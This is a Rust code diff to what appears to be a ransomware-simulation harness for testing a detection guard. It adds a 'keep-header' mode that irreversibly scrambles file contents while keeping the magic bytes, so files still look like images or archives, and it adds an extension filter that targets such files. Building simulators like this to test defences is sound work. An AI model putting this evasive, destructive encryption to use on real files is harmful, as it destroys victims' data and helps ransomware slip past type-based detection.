@@ -43,16 +43,20 @@ pub enum Mode {
     Intermittent,
     /// Encrypt, then write the ciphertext as base64 text.
     EncryptBase64,
+    /// Encrypt in place all but the first 16 bytes, so that the file keeps its magic
+    /// bytes and still looks like a jpeg, png or zip by type.
+    KeepHeader,
 }
 
 impl Mode {
-    pub const ALL: [Mode; 6] = [
+    pub const ALL: [Mode; 7] = [
         Mode::InPlace,
         Mode::NewFileDelete,
         Mode::RenameExtension,
         Mode::HeaderOnly,
         Mode::Intermittent,
         Mode::EncryptBase64,
+        Mode::KeepHeader,
     ];
 
     pub fn name(self) -> &'static str {
@@ -63,6 +67,7 @@ impl Mode {
             Mode::HeaderOnly => "header-only",
             Mode::Intermittent => "intermittent",
             Mode::EncryptBase64 => "encrypt-base64",
+            Mode::KeepHeader => "keep-header",
         }
     }
 }
@@ -166,6 +171,16 @@ pub fn encrypt_file(root: &Path, file: &Path, mode: Mode) -> anyhow::Result<()> 
             f.write_all(&random_bytes(len.min(4096)))?;
             f.sync_all()?;
         }
+        Mode::KeepHeader => {
+            let mut data = fs::read(&file)?;
+            let noise = random_bytes(data.len());
+            for (byte, n) in data.iter_mut().zip(noise).skip(16) {
+                *byte ^= n;
+            }
+            let mut f = fs::OpenOptions::new().write(true).open(&file)?;
+            f.write_all(&data)?;
+            f.sync_all()?;
+        }
         Mode::Intermittent => {
             let mut data = fs::read(&file)?;
             let noise = random_bytes(data.len());
@@ -205,16 +220,36 @@ pub struct Attack {
     pub delay: Duration,
     /// Stop after this many files (0: all).
     pub max_files: usize,
+    /// Only files with one of these extensions (lowercase, no dot; empty: all), e.g.
+    /// the images and office documents whose magic a header-keeping encryptor spares.
+    pub only_extensions: Vec<String>,
+}
+
+/// The victims of an attack, in walk order, filtered and truncated as it says.
+fn planned_victims(root: &Path, attack: &Attack) -> Vec<PathBuf> {
+    let mut files: Vec<PathBuf> = victims(root)
+        .into_iter()
+        .filter(|p| {
+            attack.only_extensions.is_empty()
+                || p.extension().and_then(|e| e.to_str()).is_some_and(|e| {
+                    attack
+                        .only_extensions
+                        .iter()
+                        .any(|o| o.eq_ignore_ascii_case(e))
+                })
+        })
+        .collect();
+    if attack.max_files > 0 {
+        files.truncate(attack.max_files);
+    }
+    files
 }
 
 /// Runs an attack on a corpus; returns how many files it changed before it finished.
 /// When the guard stops the process, this function simply never returns.
 pub fn attack(root: &Path, attack: &Attack) -> anyhow::Result<usize> {
     let root = checked_root(root)?;
-    let mut files = victims(&root);
-    if attack.max_files > 0 {
-        files.truncate(attack.max_files);
-    }
+    let files = planned_victims(&root, attack);
     let threads = attack.threads.max(1);
     let chunks: Vec<Vec<PathBuf>> = (0..threads)
         .map(|t| files.iter().skip(t).step_by(threads).cloned().collect())
@@ -257,10 +292,7 @@ pub fn attack(root: &Path, attack: &Attack) -> anyhow::Result<usize> {
 /// only the loop (this process) lasts.
 pub fn attack_process_per_file(root: &Path, attack: &Attack, exe: &Path) -> anyhow::Result<usize> {
     let root = checked_root(root)?;
-    let mut files = victims(&root);
-    if attack.max_files > 0 {
-        files.truncate(attack.max_files);
-    }
+    let files = planned_victims(&root, attack);
     let mut noted = BTreeSet::new();
     for file in &files {
         let status = std::process::Command::new(exe)
@@ -313,6 +345,7 @@ mod tests {
                 threads: 1,
                 delay: Duration::ZERO,
                 max_files: 0,
+                only_extensions: Vec::new(),
             };
             assert_eq!(attack(dir.path(), &plan).unwrap(), 1, "{}", mode.name());
             assert!(dir.path().join("ward").join(NOTE).exists());
@@ -327,6 +360,10 @@ mod tests {
                 Mode::Intermittent => assert_eq!(&after[16..32], &original.as_bytes()[16..32]),
                 Mode::EncryptBase64 => assert!(after.iter().all(|b| b.is_ascii())),
                 Mode::InPlace => assert_eq!(after.len(), original.len()),
+                Mode::KeepHeader => {
+                    assert_eq!(&after[..16], &original.as_bytes()[..16]);
+                    assert_ne!(&after[16..], &original.as_bytes()[16..]);
+                }
             }
         }
     }
